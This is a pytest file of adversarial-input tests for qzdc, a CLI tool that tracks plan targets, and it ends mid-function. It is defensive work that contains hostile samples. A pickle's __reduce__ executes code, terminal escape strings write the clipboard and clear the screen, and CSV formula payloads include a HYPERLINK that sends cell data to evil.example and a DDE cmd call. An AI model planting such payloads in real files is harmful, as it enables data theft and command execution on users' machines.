"""Hostile and broken inputs (issue #17): each attack, with the exact message and exit code it must get.

Every test here reproduces one finding of the adversarial pass: the input that
got through, and what qzdc must do with it instead.
"""

from __future__ import annotations

import dataclasses
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from conftest import edit
from qzdc.cli.app import app
from qzdc.errors import UsageError
from qzdc.plan.loader import load_plan
from qzdc.plan.lookup import find_department, find_indicator, name_key
from qzdc.plan.models import Plan

# Messages are checked word for word, in English (their Chinese: tests/test_i18n.py).
pytestmark = pytest.mark.usefixtures("english")

HALF = "乡村医生执业(助理)医师比例"  # half-width brackets
FULL = "乡村医生执业（助理）医师比例"  # full-width, as the built-in plan writes it


@pytest.fixture
def run(cli):
    """`cli`, also failing on any traceback in the output."""

    def go(*args: str, env: dict[str, str] | None = None):
        result = CliRunner().invoke(app, list(args), env=env)
        crash = result.exception
        assert crash is None or isinstance(crash, SystemExit), f"qzdc crashed: {crash!r}"
        assert "Traceback" not in result.stderr + result.stdout
        return result

    return go


def place(path: Path, needle: str) -> tuple[int, int]:
    """1-based (line, column) of the first `needle` in the file."""
    text = path.read_text(encoding="utf-8")
    index = text.index(needle)
    return text.count("\n", 0, index) + 1, index - (text.rfind("\n", 0, index) + 1) + 1


# ── 5. a figure on the wrong indicator ───────────────────────────────────────


def test_names_differing_only_in_bracket_width_are_a_validation_error(run, plan_copy):
    path = plan_copy / "indicators.yaml"
    edit(path, "    name: 粮食播种面积\n", f"    name: {HALF}\n")
    line, col = place(path, f"name: {HALF}")
    result = run("validate", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:{line}:{col + len('name: ')}: indicators[27].name: "
        f"'{HALF}' reads as the same name as '{FULL}' at indicators[23].name "
        "(names are compared ignoring full- or half-width forms, quotes, spaces and case; "
        "make them differ by more, or write one name the same way everywhere)"
    )
    # The attack itself: record by the exact name of one of the two writes nothing.
    recorded = run("record", HALF, "2024", "28", "--plan", str(plan_copy))
    assert recorded.exit_code == 1
    assert f"'{HALF}' reads as the same name as '{FULL}'" in recorded.stderr
    assert not Path("actuals.yaml").exists()


def test_category_and_department_names_that_collide_are_validation_errors(run, plan_copy):
    edit(plan_copy / "plan.yaml", "    name_en: Innovation\n", "    name_en: ECONOMY\n")
    tasks = plan_copy / "tasks.yaml"
    # Task 2 names 区经济信息委 as task 1 does, but with a full-width space inside.
    edit(tasks, "lead: [区科技局, 区经济信息委]", "lead: [区科技局, 区经济\u3000信息委]")
    line, col = place(tasks, "区经济\u3000信息委")
    result = run("validate", "--plan", str(plan_copy), "--format", "json")
    assert result.exit_code == 1
    messages = [e["message"] for e in json.loads(result.stdout)["errors"]]
    assert "'ECONOMY' reads as the same name as 'economy' at categories[0].id" in messages
    errors = json.loads(result.stdout)["errors"]
    [department] = [e for e in errors if e["file"] == str(tasks)]
    assert (department["line"], department["column"], department["field"]) == (line, col, "tasks[1].lead[1]")
    assert (
        department["message"] == "'区经济\\u3000信息委' reads as the same name as '区经济信息委' at tasks[0].support[1]"
    )


def test_the_builtin_plan_has_no_colliding_names():
    plan = load_plan()
    keys = [name_key(n) for i in plan.indicators for n in {i.name, i.name_en}]
    assert len(keys) == len(set(keys))


def _twins(first: str, second: str) -> Plan:
    """The built-in plan, unvalidated, with two indicators named `first` and `second` (in that order)."""
    plan = load_plan()
    indicators = list(plan.indicators)
    a = next(i for i, ind in enumerate(indicators) if ind.id == "village_doctors_licensed_share")
    b = next(i for i, ind in enumerate(indicators) if ind.id == "grain_sown_area")
    indicators[a] = dataclasses.replace(indicators[a], name=first)
    indicators[b] = dataclasses.replace(indicators[b], name=second)
    return dataclasses.replace(plan, indicators=indicators)


@pytest.mark.parametrize(("first", "second"), [(FULL, HALF), (HALF, FULL)])
def test_an_exact_name_always_wins_over_a_normalised_one(first, second):
    plan = _twins(first, second)
    assert find_indicator(plan, first).id == "village_doctors_licensed_share"
    assert find_indicator(plan, second).id == "grain_sown_area"
    # Typed some third way, the name matches both: refused rather than guessed.
    with pytest.raises(UsageError) as caught:
        find_indicator(plan, "乡村医生执业 (助理) 医师比例")
    assert caught.value.message == (
        f"'乡村医生执业 (助理) 医师比例' names more than one indicator: "
        f"{first} (village_doctors_licensed_share), {second} (grain_sown_area)"
    )


def test_a_name_typed_loosely_finds_the_one_indicator(run):
    result = run("record", HALF, "2024", "28")
    assert result.exit_code == 0, result.stderr
    assert "indicator: village_doctors_licensed_share" in Path("actuals.yaml").read_text(encoding="utf-8")
    assert run("status", "--category", "ＥＣＯＮＯＭＹ", "--format", "json").exit_code == 0


def test_departments_are_found_in_the_same_normalised_form():
    assert (
        find_department(["区农业农村委（区乡村振兴局）"], "区农业农村委(区乡村振兴局)")
        == "区农业农村委（区乡村振兴局）"
    )
    assert find_department(["区农业农村委"], "区农业农村委 ") == "区农业农村委"
    assert find_department(["区农业农村委"], "区农业委") is None


# ── 8. huge numbers are refused before writing, and reported by every reader ──

BIG = "9" * 400  # fits a Python int, not a float
HUGE = "9" * 5000  # beyond Python's 4,300-digit limit for reading an integer


def test_record_refuses_a_value_beyond_a_float_and_writes_nothing(run):
    result = run("record", "gdp", "2024", BIG)
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: gdp: '{BIG[:58]}… is out of range: a figure lies within ±10^15 (check the number of digits)\n"
    )
    assert not Path("actuals.yaml").exists()


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (HUGE, f"'{HUGE[:58]}…"),
        ("1e400", "'1e400'"),
        ("1e16", "'1e16'"),
        ("-2e15", "'-2e15'"),
        ("1e99999999999999999999", "'1e99999999999999999999'"),
        ("1e-99999999999999999999", "'1e-99999999999999999999'"),
    ],
    ids=["5000 digits", "1e400", "1e16", "-2e15", "exponent beyond Decimal", "negative exponent beyond Decimal"],
)
def test_record_refuses_every_value_out_of_range(run, value, shown):
    result = run("record", "gdp", "2024", value)
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: gdp: {shown} is out of range: a figure lies within ±10^15 (check the number of digits)\n"
    )
    assert not Path("actuals.yaml").exists()


def test_record_takes_a_value_at_the_limit_and_leading_zeros(run):
    assert run("record", "gdp", "2024", "1000000000000000").exit_code == 0
    assert run("record", "gdp", "2024", "0" * 5000 + "81.5").exit_code == 0
    text = Path("actuals.yaml").read_text(encoding="utf-8")
    assert "value: 1000000000000000\n" in text
    assert "value: 81.5\n" in text


def test_a_period_too_long_to_read_is_a_usage_error(run):
    result = run("record", "gdp", BIG, "81.2")
    assert result.exit_code == 2
    assert result.stderr == (
        f"qzdc: error: '{BIG[:58]}… is not a period: write a year (2024), a quarter (2025-Q3) or a month (2025-09)\n"
    )


def test_import_refuses_a_huge_value_and_writes_nothing(run):
    Path("figures.csv").write_text(f"indicator,period,value\ngdp,2024,{BIG}\n", encoding="utf-8")
    result = run("import", "figures.csv")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"figures.csv:2:3: C2 value: gdp: '{BIG[:58]}… is out of range: a figure lies within ±10^15 "
        "(check the number of digits)",
        "qzdc: figures.csv: 1 bad cell(s) in 1 row(s); nothing was imported",
    ]
    assert not Path("actuals.yaml").exists()


DIGITS = " (check the number of digits)"
RANGE = "is out of range: a figure lies within ±10^15"
HAND_EDITED = [
    (f"value: {BIG}", f"4:12: actuals[0].value: gdp: a 400-digit number {RANGE}{DIGITS}"),
    (f"value: {HUGE}", f"4:12: a whole number of 5000 digits is too long to read{DIGITS}"),
    ("value: 1.5e+300", f"4:12: actuals[0].value: gdp: 1.5e+300 {RANGE}{DIGITS}"),
    ("value: 1.0e+999", "4:12: '1.0e+999' is not a finite number (write the figure, or null where there is none)"),
]


@pytest.mark.parametrize(("line", "message"), HAND_EDITED, ids=["400 digits", "5000 digits", "1.5e+300", "1.0e+999"])
@pytest.mark.parametrize(
    "command",
    [["status"], ["status", "--format", "json"], ["show", "gdp"], ["history", "gdp"], ["report"], ["audit"]],
    ids=lambda c: " ".join(c),
)
def test_every_reader_reports_a_hand_edited_huge_value_as_bad_data(run, command, line, message):
    Path("actuals.yaml").write_text(f"actuals:\n  - indicator: gdp\n    period: 2024\n    {line}\n", encoding="utf-8")
    result = run(*command)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines() == [f"actuals.yaml:{message}", "qzdc: actuals.yaml has 1 problem(s)"]


def test_a_huge_period_in_a_hand_edited_file_is_bad_data(run):
    Path("actuals.yaml").write_text(
        f"actuals:\n  - indicator: gdp\n    period: {HUGE}\n    value: 3\n", encoding="utf-8"
    )
    result = run("history", "gdp")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "actuals.yaml:3:13: a whole number of 5000 digits is too long to read (check the number of digits)"
    )


def test_batch_reports_a_plan_with_a_huge_value_and_goes_on(run, plan_copy, tmp_path):
    good = tmp_path / "good"
    good.mkdir()
    for name in ("plan.yaml", "indicators.yaml", "tasks.yaml", "observations.yaml"):
        (good / name).write_bytes((plan_copy / name).read_bytes())
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - indicator: gdp\n    period: 2024\n    value: {BIG}\n", encoding="utf-8"
    )
    result = run("batch", str(plan_copy), str(good), "--format", "jsonl")
    assert result.exit_code == 1
    assert len(result.stdout.splitlines()) == 40  # every target of the good plan
    assert (
        f"{plan_copy / 'actuals.yaml'}:4:12: actuals[0].value: gdp: a 400-digit number is out of range" in result.stderr
    )


def test_a_plan_file_with_an_integer_too_long_to_read(run, plan_copy):
    path = plan_copy / "indicators.yaml"
    edit(
        path, "value: 30\n        source: {ref: 附件1 序号24}", f"value: {HUGE}\n        source: {{ref: 附件1 序号24}}"
    )
    line, col = place(path, HUGE)
    result = run("validate", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:{line}:{col}: a whole number of 5000 digits is too long to read (check the number of digits)"
    )


# ── 1. the plan cache never runs planted code, and is read only where no one else writes ──


def _builtin_key() -> str:
    from qzdc.plan import cache
    from qzdc.plan.loader import FILES, builtin_plan_dir

    base = builtin_plan_dir()
    return cache.key(
        [(name, (base / name).read_bytes() if (base / name).exists() else None) for name, _, _ in FILES.values()]
    )


class _Planted:
    """Unpickling this creates the marker directory: what a planted pickle could do, harmlessly."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        import os

        return (os.mkdir, (self.marker,))


def test_a_planted_pickle_in_the_cache_runs_nothing(tmp_path):
    import os
    import pickle
    import subprocess
    import sys

    root = tmp_path / "cache"
    (root / "plans").mkdir(parents=True, mode=0o700)
    root.chmod(0o700)
    marker = tmp_path / "planted-code-ran"
    payload = pickle.dumps(_Planted(marker))
    key = _builtin_key()
    # Where the pickle cache kept its entries, and where the JSON cache keeps them.
    for name in (f"{key}.pickle", f"{key}.json"):
        (root / "plans" / name).write_bytes(payload)
        (root / "plans" / name).chmod(0o600)
    # The child imports the same qzdc as this process (no PYTHONPATH of its own): the cache key fingerprints the
    # code, and where CI installs qzdc as a wheel, the checkout's src/ would give another key.
    env = {**os.environ, "QZDC_CACHE_DIR": str(root), "QZDC_LANG": "zh"}
    result = subprocess.run(
        [sys.executable, "-m", "qzdc", "status", "--format", "json"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert not marker.exists(), "planted code ran"
    assert result.returncode == 0, result.stderr
    # nothing on stderr but which actuals file was read (none here)
    assert result.stderr.splitlines() == ["qzdc: 尚未录入数据：无 actuals.yaml"]
    assert json.loads(result.stdout)["summary"]["at_risk"] == 1
    # The unreadable entry was replaced by plain data.
    assert json.loads((root / "plans" / f"{key}.json").read_text(encoding="utf-8"))["~"] == "Plan"


def _planted_plan(root: Path) -> Path:
    """A valid cache entry for the built-in plan whose tech_smes target says 999 instead of 205."""
    from qzdc.plan import cache

    plan = load_plan()
    target = plan.targets_by_id["tech_smes"]
    changed = dataclasses.replace(
        plan, targets=[dataclasses.replace(t, value=999) if t is target else t for t in plan.targets]
    )
    (root / "plans").mkdir(parents=True, exist_ok=True)
    entry = root / "plans" / f"{_builtin_key()}.json"
    entry.write_bytes(cache.dumps(changed))
    entry.chmod(0o600)
    return entry


def _unsafe_cache(root: Path, how: str) -> tuple[Path, str]:
    """Make the cache unsafe `how`; return the path the note names and why."""
    import os

    root.mkdir(mode=0o700)
    entry = _planted_plan(root)
    root.chmod(0o700)
    (root / "plans").chmod(0o700)
    if how == "directory writable by others":
        root.chmod(0o777)
        return root, "others may write to it"
    if how == "plans directory writable by its group":
        (root / "plans").chmod(0o770)
        return root / "plans", "others may write to it"
    if how == "entry writable by others":
        entry.chmod(0o666)
        return entry, "others may write to it"
    if how == "directory of another user":
        os.chown(root, 4242, 4242)
        return root, "it belongs to another user"
    if how == "entry of another user":
        os.chown(entry, 4242, 4242)
        return entry, "it belongs to another user"
    raise AssertionError(how)


UNSAFE = [
    "directory writable by others",
    "plans directory writable by its group",
    "entry writable by others",
    "directory of another user",
    "entry of another user",
]


@pytest.mark.parametrize("how", UNSAFE)
def test_a_cache_someone_else_could_write_is_not_used(tmp_path, monkeypatch, capsys, how):
    import os

    if "another user" in how and (not hasattr(os, "geteuid") or os.geteuid() != 0):
        pytest.skip("giving a file to another user needs root")
    root = tmp_path / "shared-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    named, why = _unsafe_cache(root, how)
    plan = load_plan()
    assert plan.targets_by_id["tech_smes"].value == 205  # read from the plan's files, not the planted entry
    assert capsys.readouterr().err == (
        f"qzdc: note: the plan cache {named} is not used: {why} "
        "(qzdc reads its cache only from a directory no one else can write to)\n"
    )


def test_a_cache_entry_that_is_a_link_is_not_followed(tmp_path, monkeypatch, capsys):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    planted = _planted_plan(elsewhere)
    root = tmp_path / "linked-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    (root / "plans").mkdir(parents=True, mode=0o700)
    root.chmod(0o700)
    (root / "plans" / planted.name).symlink_to(planted)
    assert load_plan().targets_by_id["tech_smes"].value == 205
    assert capsys.readouterr().err == ""


def test_a_safe_cache_is_used_and_made_private(tmp_path, monkeypatch):
    import stat

    root = tmp_path / "private-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    load_plan()
    (entry,) = (root / "plans").iterdir()
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert stat.S_IMODE((root / "plans").stat().st_mode) == 0o700
    # What the cache holds is what is used: a safe entry is trusted as the user's own.
    _planted_plan(root)
    assert load_plan().targets_by_id["tech_smes"].value == 999


# ── 15. property tests: derandomized in CI, exploring locally ─────────────────


@pytest.mark.parametrize(("ci", "expected"), [("1", "True False"), ("", "False True")])
def test_ci_runs_property_tests_derandomized_and_local_runs_explore(ci, expected):
    import os
    import subprocess
    import sys

    here = Path(__file__).parent
    probe = (
        "import conftest, test_engine_properties as t\nprint(t.SETTINGS.derandomize, t.SETTINGS.database is not None)\n"
    )
    env = {k: v for k, v in os.environ.items() if k not in ("CI", "HYPOTHESIS_PROFILE")}
    env["PYTHONPATH"] = os.pathsep.join([str(here), str(here.parent / "src")])
    if ci:
        env["CI"] = ci
    result = subprocess.run([sys.executable, "-c", probe], cwd=here, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == expected


def test_a_pace_against_a_subnormal_requirement_keeps_its_sign():
    import sys

    from qzdc.engine.formulas import pace_ratio

    # −0.00668 / 2.2e-311 is about −3e308: beyond the floats, so held at the largest one, negative.
    assert pace_ratio(-0.00668, 2.2e-311) == -sys.float_info.max
    assert pace_ratio(0.00668, 2.2e-311) == sys.float_info.max
    assert pace_ratio(0.03, 0.04) == pytest.approx(0.75)  # 3 % a year against 4 % needed
    assert pace_ratio(0.03, 0.0) is None
    assert pace_ratio(None, 0.04) is None


# ── 9. numbers near the float limit: no infinity at any output; batch goes on ──

TECH_BASELINE = "baseline: {year: 2022, value: 100, source: {ref: 附件1 序号10}}"


def _strict_json(text: str):
    """JSON as any other program reads it: Infinity and NaN are not JSON."""

    def refuse(name: str):
        raise AssertionError(f"{name} in the JSON output")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def huge_target(plan_copy):
    """tech_smes (科技型企业, a count) with a target of 1e308 and a recorded 2024 figure of 1."""
    edit(plan_copy / "indicators.yaml", "        value: 205\n", "        value: 1.0e+308\n")
    (plan_copy / "actuals.yaml").write_text(
        "actuals:\n  - {indicator: tech_smes, period: 2024, value: 1}\n", encoding="utf-8"
    )
    return plan_copy


def test_status_and_show_json_hold_no_infinity(run, huge_target):
    actuals = str(huge_target / "actuals.yaml")
    status = run("status", "--plan", str(huge_target), "--actuals", actuals, "--format", "json")
    assert status.exit_code == 0, status.stderr
    [tech] = [t for t in _strict_json(status.stdout)["targets"] if t["id"] == "tech_smes"]
    # From 1 in 2024 to 1e308 in 2025 needs 1e308× growth: as a percent it overflows, so it is null.
    assert tech["required_now"] == {"value": None, "type": "rate_pct"}
    # 100 in 2022 to 1 in 2024 is −90 % a year against ~1e102 a year needed: R ≈ −9e-103, held at −1e-9.
    assert tech["status"] == "moving_away"
    assert tech["pace_ratio"] == -1e-9
    show = run("show", "tech_smes", "--plan", str(huge_target), "--actuals", actuals, "--format", "json")
    assert show.exit_code == 0, show.stderr
    _strict_json(show.stdout)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_batch_json_holds_no_infinity(run, huge_target, fmt):
    result = run("batch", str(huge_target), "--format", fmt)
    assert result.exit_code == 0, result.stderr
    for line in result.stdout.splitlines() if fmt == "jsonl" else [result.stdout]:
        _strict_json(line)


def test_a_path_from_1e_308_to_1e308_is_shown_by_its_size(run, plan_copy):
    edit(plan_copy / "indicators.yaml", TECH_BASELINE, TECH_BASELINE.replace("value: 100", "value: 1.0e-308"))
    edit(plan_copy / "indicators.yaml", "        value: 205\n", "        value: 1.0e+308\n")
    result = run("show", "tech_smes", "--plan", str(plan_copy), "--lang", "zh")
    assert result.exit_code == 0, result.stderr
    assert "目标：1.000e308 (2025)" in result.stdout
    as_json = run("show", "tech_smes", "--plan", str(plan_copy), "--format", "json")
    assert as_json.exit_code == 0
    _strict_json(as_json.stdout)


def test_the_html_report_of_running_sums_beyond_the_floats(run, plan_copy, tmp_path):
    """Two plan figures of 1e308 sum to infinity: the chart is left out, the report is written."""
    with (plan_copy / "observations.yaml").open("a", encoding="utf-8") as f:
        for year in (2023, 2024):
            f.write(f"  - {{indicator: contracted_investment, period: {year}, value: 1.0e+308, source: {{ref: x}}}}\n")
    out = tmp_path / "r.html"
    result = run("report", "--plan", str(plan_copy), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stderr == f"wrote {out}\n"
    page = out.read_text(encoding="utf-8")
    assert 'id="chart-contracted_investment"' not in page
    # its sibling, a running sum too with nothing recorded, is still listed (among the targets without data)
    assert '<tr class="no-data-row" data-target="new_investment_projects">' in page
    shown = run("show", "contracted_investment", "--plan", str(plan_copy))
    assert shown.exit_code == 0, shown.stderr
    assert "1.000e308" in shown.stdout


@pytest.mark.parametrize("stage", ["reading", "writing"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json", "table", "markdown"])
def test_batch_reports_a_plan_qzdc_fails_on_and_goes_on(run, plan_copy, tmp_path, monkeypatch, stage, fmt):
    import qzdc.report.batch
    import qzdc.views.batch

    other = tmp_path / "other"
    other.mkdir()
    for name in ("plan.yaml", "indicators.yaml", "tasks.yaml", "observations.yaml"):
        (other / name).write_bytes((plan_copy / name).read_bytes())
    if stage == "reading":
        real = qzdc.views.batch.build_status

        def build_status(plan, *args, **kwargs):
            if plan.source_dir == str(plan_copy):
                raise ZeroDivisionError("float division by zero")
            return real(plan, *args, **kwargs)

        monkeypatch.setattr(qzdc.views.batch, "build_status", build_status)
    else:
        real_records = qzdc.report.batch.records

        def records(result):
            if result.directory == str(plan_copy):
                raise ValueError("Out of range float values are not JSON compliant")
            return real_records(result)

        monkeypatch.setattr(qzdc.report.batch, "records", records)
        if fmt in ("table", "markdown"):
            pytest.skip("these formats write no records")
    result = run("batch", str(plan_copy), str(other), "--format", fmt, "--lang", "en")
    assert result.exit_code == 1
    why = (
        "ZeroDivisionError: float division by zero"
        if stage == "reading"
        else ("ValueError: Out of range float values are not JSON compliant")
    )
    assert result.stderr.splitlines() == [
        f"qzdc: {plan_copy}: qzdc failed on this plan ({why}) (this is a bug in qzdc: please report it with the plan)",
        f"qzdc: error: 1 of 2 plan(s) failed: {plan_copy}",
    ]
    # The other plan's 40 targets are all there.
    lines = result.stdout.splitlines()
    if fmt == "jsonl":
        assert len(lines) == 40
    elif fmt == "csv":
        assert len(lines) == 1 + 40
    elif fmt == "json":
        assert len(_strict_json(result.stdout)["targets"]) == 40
    elif fmt == "markdown":
        assert len([line for line in lines if line.startswith("| ")]) == 2 + 40
    else:
        assert "failed" in result.stdout and "wangu-qzdc-2023-2025" in result.stdout


# ── 10. a seasonal profile with nothing due in the first quarter ──────────────


def test_a_profile_starting_at_zero_leaves_the_first_quarter_unjudged(run, plan_copy):
    edit(
        plan_copy / "indicators.yaml",
        "        value: 7500\n        source: {ref: 附件1 序号6}\n",
        "        value: 7500\n        source: {ref: 附件1 序号6}\n        profile: [0, 30, 60, 100]\n",
    )
    (plan_copy / "actuals.yaml").write_text(
        "actuals:\n  - {indicator: exports, period: 2024-Q1, value: 100}\n", encoding="utf-8"
    )
    args = ["--plan", str(plan_copy), "--actuals", str(plan_copy / "actuals.yaml")]
    for command in (["status"], ["show", "exports"], ["report"], ["status", "--as-of", "2024-02"]):
        result = run(*command, *args)
        assert result.exit_code == 0, (command, result.stderr)
    status = _strict_json(run("status", "--format", "json", "--lang", "en", *args).stdout)
    [exports] = [t for t in status["targets"] if t["id"] == "exports"]
    assert exports["status"] == "no_data"
    assert exports["notes"][0] == (
        "nothing of the year is due by 2024-Q1 by the seasonal profile: "
        "the figure to date (100) cannot be scaled to the year and is not judged"
    )
    # With a second quarter in, 30 % of the year is due: 2400 so far is an estimate of 8000 for 2024.
    with (plan_copy / "actuals.yaml").open("a", encoding="utf-8") as f:
        f.write("  - {indicator: exports, period: 2024-Q2, value: 2400}\n")
    status = _strict_json(run("status", "--format", "json", "--lang", "en", *args).stdout)
    [exports] = [t for t in status["targets"] if t["id"] == "exports"]
    assert exports["status"] == "on_track"
    assert (
        "yearly flow: 2400 to 2024-Q2 is 30 % of the year by the seasonal profile, an estimate of 8000 for 2024"
        in (exports["notes"])
    )


def test_a_real_pace_against_an_enormous_requirement_keeps_its_sign():
    from qzdc.engine.formulas import pace_ratio

    # −0.99999684 a year against +999999917 (1e11 %) still needed: R ≈ −1e-9 · 0.99999… → held at −1e-9.
    assert pace_ratio(-0.999996837722209, 99999991724.96358) == -1e-9
    # Float noise in the pace itself (a difference of 1e-16) stays noise, printed as 0.
    assert pace_ratio(-1e-16, 0.05) == pytest.approx(-2e-15)


# ── 2. control characters in plan or actuals text never reach a terminal raw ──

# Clear the screen, write the clipboard (OSC 52, ended by BEL), ring, a one-byte C1 CSI, a carriage return.
ATTACK = "地区\x1b[2J生产\x1b]52;c;aGVsbG8=\x07总值\x9b6n\r"
ATTACK_YAML = '"地区\\e[2J生产\\e]52;c;aGVsbG8=\\a总值\\x9b6n\\r"'
SHOWN = "地区\\x1b[2J生产\\x1b]52;c;aGVsbG8=\\x07总值\\x9b6n\\r"
# The colour codes qzdc writes on purpose (SGR: ESC [ … m); every other control character is an attack.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def raw_controls(text: str) -> list[str]:
    return _RAW_CONTROL.findall(_SGR.sub("", text))


@pytest.fixture
def hostile_plan(plan_copy):
    """The built-in plan with control characters in an indicator's name, a task, a department and an actuals note."""
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {ATTACK_YAML}\n")
    edit(plan_copy / "indicators.yaml", "    name_en: Gross regional product\n", f"    name_en: {ATTACK_YAML}\n")
    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", f"    name: {ATTACK_YAML}\n")
    edit(
        plan_copy / "tasks.yaml",
        "    lead: [大足高新区]\n    support: [区发展改革委",
        f"    lead: [{ATTACK_YAML}]\n    support: [区发展改革委",
    )
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {ATTACK_YAML}, note: {ATTACK_YAML}}}\n",
        encoding="utf-8",
    )
    return plan_copy


HOSTILE_COMMANDS = [
    ["status"],
    ["status", "--lang", "en"],
    ["show", "gdp"],
    ["history", "gdp"],
    ["tasks"],
    ["owners"],
    ["owners", ATTACK],
    ["indicators"],
    ["audit"],
    ["report"],
    ["status", "--format", "markdown"],
    ["status", "--format", "json"],
    ["status", "--format", "csv"],
    ["history", "gdp", "--format", "csv"],
    ["indicators", "--format", "json"],
]
_NO_ACTUALS = ("tasks", "owners", "indicators")


@pytest.mark.parametrize("command", HOSTILE_COMMANDS, ids=lambda c: " ".join(c).replace(ATTACK, "ATTACK"))
def test_control_characters_in_plan_text_never_reach_the_output_raw(run, hostile_plan, command):
    args = ["--plan", str(hostile_plan)]
    if command[0] not in _NO_ACTUALS:
        args += ["--actuals", str(hostile_plan / "actuals.yaml")]
    result = run(*command, *args)
    assert result.exit_code == 0, result.stderr
    assert raw_controls(result.stdout) == []
    assert raw_controls(result.stderr) == []
    if "audit" not in command:  # the audit quotes none of these names
        # Seen as an escape: \x1b as text (doubled in Markdown), \u001b in JSON.
        assert "x1b" in result.stdout or "u001b" in result.stdout


def test_import_dry_run_shows_control_characters_as_escapes(run):
    Path("figures.csv").write_text(f"indicator,period,value,source\ngdp,2024,81.2,{ATTACK}\n", encoding="utf-8")
    result = run("import", "figures.csv", "--dry-run")
    assert result.exit_code == 0, result.stderr
    assert raw_controls(result.stdout + result.stderr) == []
    assert SHOWN.replace("\\r", "") in result.stdout.replace("\n", "") or "\\x1b[2J" in result.stdout


def test_an_unknown_name_quoted_in_an_error_shows_its_control_characters_as_escapes(run):
    result = run("show", "gdp\x1b]0;owned\x07")
    assert result.exit_code == 2
    assert raw_controls(result.stderr) == []
    assert result.stderr.startswith("qzdc: ")
    assert "\\x1b]0;owned\\x07" in result.stderr


def test_a_note_on_stderr_from_deep_inside_qzdc_is_escaped_too(run):
    result = run("status", "--actuals", "missing\x1b[31m.yaml", "--format", "json")
    assert result.exit_code == 0
    assert raw_controls(result.stderr) == []
    assert "missing\\x1b[31m.yaml" in result.stderr


def test_on_a_terminal_only_qzdcs_own_colours_are_escape_sequences(hostile_plan, tmp_path):
    """A real pseudo-terminal: the rich tables and the document of `show`, coloured."""
    import os
    import pty
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src"), "COLUMNS": "160", "TERM": "xterm"}
    env.pop("NO_COLOR", None)
    for command in (["status"], ["show", "gdp"], ["history", "gdp"], ["tasks"], ["owners"]):
        leader, follower = pty.openpty()
        args = ["--plan", str(hostile_plan)]
        if command[0] not in _NO_ACTUALS:
            args += ["--actuals", str(hostile_plan / "actuals.yaml")]
        chunks: list[bytes] = []

        def drain(fd: int = leader, chunks: list[bytes] = chunks) -> None:
            # Read while qzdc writes: a table larger than the terminal's buffer would otherwise block it.
            while True:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                chunks.append(chunk)

        import threading

        reader = threading.Thread(target=drain)
        reader.start()
        proc = subprocess.run(
            [sys.executable, "-m", "qzdc", *command, *args],
            stdout=follower,
            stderr=subprocess.PIPE,
            cwd=tmp_path,
            env=env,
            timeout=120,
        )
        os.close(follower)
        reader.join(timeout=30)
        os.close(leader)
        out = b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")
        assert proc.returncode == 0, proc.stderr
        assert "\x1b[" in out, "a terminal gets colour"
        assert raw_controls(out) == [], command
        assert "\\x1b[2J" in out


# ── 3. formula cells in CSV ──────────────────────────────────────────────────

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["=HYPERLINK", "@SUM", "+", "-", "tab", "CR"])
def test_csv_text_that_starts_like_a_formula_is_written_as_text(formula):
    from qzdc.render.formats import csv_value

    cell = csv_value(formula)
    assert cell.startswith("'") or cell.startswith("\\r")
    assert cell[0] not in "=+-@\t\r"
    # Numbers are never touched: −2.5 stays a number Excel can add up.
    assert csv_value(-2.5) == "-2.5"
    assert csv_value(-3) == -3


@pytest.fixture
def formula_plan(plan_copy):
    hyperlink = '=HYPERLINK("http://evil.example/","x")'
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: '{hyperlink}'\n")
    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", "    name: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n")
    edit(
        plan_copy / "tasks.yaml",
        "    lead: [大足高新区]\n    support: [区发展改革委",
        '    lead: ["-2+3"]\n    support: [区发展改革委',
    )
    (plan_copy / "actuals.yaml").write_text(
        'actuals:\n  - {indicator: gdp, period: 2024, value: 81.2, source: "+1+1", note: "=1+1"}\n', encoding="utf-8"
    )
    return plan_copy


@pytest.mark.parametrize(
    "command",
    [["status"], ["history", "gdp"], ["indicators"], ["tasks"], ["owners"], ["audit"]],
    ids=lambda c: " ".join(c),
)
def test_no_csv_output_holds_a_live_formula(run, formula_plan, command):
